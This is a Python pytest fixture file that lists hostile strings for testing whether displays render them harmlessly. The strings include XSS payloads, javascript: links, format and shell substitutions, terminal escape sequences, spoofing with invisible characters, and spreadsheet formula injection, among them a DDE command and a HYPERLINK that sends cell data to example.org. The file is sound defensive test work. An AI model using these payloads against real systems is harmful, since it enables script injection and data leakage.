"""The table of hostile texts: whatever shows a text to people must show each of these harmlessly.

A test that takes `hostile` runs once for each text, one that takes `storable` once for each that a
file can hold, and one that takes `hostiles` gets all of them by name. By default it runs for one text
of each kind; the slow tests run for the others. A script that ran would set
`window.hit` and the title of the page, and ask example.org for something.
"""

import pytest

_RUN = "window.hit=1;document.title='hit'"

HOSTILE = {
    # HTML and its ways out
    "script": f"<script>{_RUN};fetch('http://example.org/')</script>",
    "image": f'"><img src=x onerror="{_RUN}">',
    "single quote": f"' onmouseover='{_RUN}' x='",
    "svg": f'<svg onload="{_RUN}">',
    "frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "form": '<form action="http://example.org/"><input name=x autofocus onfocus="window.hit=1">',
    "style sheet": "<style>*{display:none}</style><link rel=stylesheet href=http://example.org/x>",
    "refresh": '<meta http-equiv=refresh content="0;url=http://example.org/">',
    "script end": f"</script><script>{_RUN}</script>",
    "style end": f"</style><script>{_RUN}</script>",
    "table end": f"</td></tr></table></figure><script>{_RUN}</script>",
    "title end": f"</title><script>{_RUN}</script>",
    "comment": "<!-- is this still shown?",
    "section": "]]><![CDATA[ x ]]>",
    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &nbsp",
    # languages that a page may read
    "markdown link": f"[x](javascript:{_RUN})",
    "markdown image": "![x](http://example.org/x.png)",
    "markdown code": "```\n# not a heading\n``` **b** <http://example.org/>",
    "link": f"javascript:{_RUN}",
    "maths": "it costs $5 and $\\frac{1}{2}$ or $$x^2$$ \\(y\\)",
    "maths link": f"$\\href{{javascript:{_RUN}}}{{x}}$",
    "plotly markup": f'<b>bold</b><br><a href="javascript:{_RUN}">x</a><sup>2</sup>',
    "plotly template": "%{x} %{customdata[0]} <extra>gone</extra>",
    "format": "%s %(x)s %n {} {0.__class__} ${HOME} `id` $(id)",
    "json": '", "__proto__": {"hit": 1}, "x": "\\u0022',
    # what a terminal obeys
    "colour": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "terminal title": "\x1b]0;hit\x07",
    "terminal link": "\x1b]8;;http://example.org/\x1b\\x\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aGl0\x07",
    "c1": "\x9b31mred \x9d0;hit\x9c \x90q\x9c",
    "backspace": "good\x08\x08\x08\x08bad\x7f\rworse",
    "nul": "a\x00b",
    "lines": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix\x0cseven\x85eight",
    # what the eye does not see
    "right to left": "\u202egnp.exe \u202dabc",
    "isolates": "\u2066a\u2067b\u2068c",
    "marks": "a\u200eb\u200fc\u061cd",
    "zero width": "a\u200bb\u200cc\u2060d\u00ade",
    "byte order mark": "\ufeffa\ufeff",
    "tags": "a\U000e0041\U000e0042b",
    "stacked accents": "z" + "\u0300" * 200,
    "not a character": "a\ufffe\uffffb\ue000",
    # what a spreadsheet runs
    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "command": "=cmd|'/C calc'!A0",
    "plus": "+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "wide formula": "＝1+1",
    "semicolon": "a;=1+1;\t=1+1\n@SUM(1)",
    "quoted cell": 'a","=1+1","',
    # size, and nothing
    "long word": "a" * 100_000,
    "long text": "<b> $x$ " * 2_500,
    "spaces": " \u00a0 x \u3000 ",
    # halves of characters, which no file holds: JSON writes the first, a file name gives the other
    "half": "\ud83d",
    "undecoded byte": "\udcff",
}

ONE_OF_EACH_KIND = {
    "script", "image", "script end", "entities", "markdown link", "maths link", "plotly markup",
    "plotly template", "format", "colour", "c1", "lines", "right to left", "zero width",
    "not a character", "formula", "semicolon", "long word", "half", "undecoded byte",
}  # fmt: skip


STORABLE = {
    name: text
    for name, text in HOSTILE.items()
    if not any("\ud800" <= mark <= "\udfff" for mark in text)
}


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    for wanted, table in (("hostile", HOSTILE), ("storable", STORABLE)):
        if wanted in metafunc.fixturenames:
            cases = [
                pytest.param(
                    text, id=name, marks=() if name in ONE_OF_EACH_KIND else pytest.mark.slow
                )
                for name, text in table.items()
            ]
            metafunc.parametrize(wanted, cases, scope="session")


@pytest.fixture(scope="session")
def hostiles() -> dict[str, str]:
    """Every hostile text that a file can hold, by name."""
    return dict(STORABLE)


@pytest.fixture(scope="session")
def kinds(hostiles: dict[str, str]) -> dict[str, str]:
    """One hostile text of each kind that a file can hold, by name."""
    return {name: text for name, text in hostiles.items() if name in ONE_OF_EACH_KIND}
